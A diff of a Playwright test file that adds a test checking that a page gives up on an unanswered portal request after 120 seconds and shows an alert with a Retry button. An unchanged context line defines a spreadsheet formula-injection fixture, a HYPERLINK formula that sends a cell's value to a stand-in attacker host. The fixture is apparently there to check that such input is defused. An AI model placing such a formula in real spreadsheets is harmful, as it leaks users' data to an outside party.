@@ -4,7 +4,7 @@
 // refused or defused; each test here failed before the fix.
 const fs = require('fs');
 const { expect } = require('@playwright/test');
-const { test, waitReady } = require('./helpers');
+const { test, waitReady, NOW } = require('./helpers');
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"open")';
 
@@ -134,6 +134,26 @@ test('an answer past the byte cap, and one past the cap of groups, say which', a
   await page.reload();
   await expect(page.getByRole('alert')).toContainText("The portal's answer is too large", { timeout: 30_000 });
   await expect(page.getByRole('alert')).toContainText('67.1 MB');
+});
+
+test('an answer that never completes is abandoned after 120 s, and says so', async ({ page }) => {
+  await page.clock.install({ time: new Date(NOW) });
+  // The actions' groups: the request is held, never answered.
+  let held = 0;
+  await page.route((url) => url.searchParams.get('group_by') === 'action', () => { held += 1; });
+  await page.goto('/?agg=portal');
+  // The page's timers run on the test's clock: move it until the request is out.
+  await expect.poll(async () => {
+    await page.clock.runFor(200);
+    return held;
+  }).toBeGreaterThan(0);
+  await expect(page.locator('main')).toHaveAttribute('data-state', 'loading');
+  await page.clock.runFor(119_000);
+  await expect(page.locator('main')).toHaveAttribute('data-state', 'loading');
+  await page.clock.runFor(2_000);
+  await expect(page.getByRole('alert')).toContainText('The portal took too long to answer');
+  await expect(page.getByRole('alert')).toContainText('No complete answer after 120 seconds');
+  await expect(page.getByRole('alert').getByRole('button', { name: 'Retry' })).toBeVisible();
 });
 
 test.describe('before a key leaves', () => {
